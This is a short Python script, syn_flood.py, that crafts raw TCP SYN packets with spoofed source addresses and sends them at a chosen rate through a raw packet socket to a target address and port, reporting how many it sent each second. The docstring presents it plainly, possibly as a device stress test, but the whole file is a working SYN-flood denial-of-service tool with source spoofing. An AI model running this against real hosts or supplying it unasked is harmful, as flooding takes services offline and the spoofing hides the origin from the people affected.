"""SYNs into a device: syn_flood.py DEVICE MAC FROM TO PORT RATE, so many per second. FROM is a network's first three bytes: half of the
SYNs come from addresses in it that nobody has, half from .1, whose kernel knows nothing of them. Prints how many were sent, every second."""

import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return 0xffff - ((total & 0xffff) + (total >> 16))


def syn(mac, source, target, port, prng):
    source, target = socket.inet_aton(source), socket.inet_aton(target)
    tcp = struct.pack(">HHIIBBHHH", prng.randrange(1024, 65536), port, prng.randrange(1 << 32), 0, 0x60, 2, 65535, 0, 0)
    tcp += b"\x02\x04\x05\xb4"  # MSS 1460
    pseudo = source + target + struct.pack(">HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, target)
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    return bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000099") + b"\x08\x00" + ip + tcp


def main():
    device, mac, network, target, port, rate = sys.argv[1:7]
    prng = random.Random(1)
    frames = [syn(mac, "%s.%d" % (network, prng.randrange(3, 255) if n % 2 else 1), target, int(port), prng) for n in range(20000)]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((device, 0))
    sent, tried, said = 0, 0, time.monotonic()
    began = said
    while True:
        for frame in frames:
            tried += 1
            try:
                sent += s.send(frame) > 0
            except OSError:  # the device's queue is full
                time.sleep(0.0005)
            if tried % 50 == 0:
                now = time.monotonic()
                time.sleep(max(0, began + tried / int(rate) - now))
                if now - said > 1:
                    said = now
                    print(sent, flush=True)


main()
